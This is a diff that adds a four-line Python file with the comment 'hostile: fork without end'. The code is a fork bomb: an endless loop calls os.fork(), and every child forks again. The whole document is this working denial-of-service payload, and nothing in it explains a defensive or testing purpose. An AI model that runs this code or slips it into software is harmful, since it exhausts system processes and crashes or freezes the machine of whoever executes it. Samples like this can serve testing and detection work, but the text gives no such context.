@@ -1,0 +1,4 @@
+# hostile: fork without end (each child forks too)
+import os
+while True:
+    os.fork()
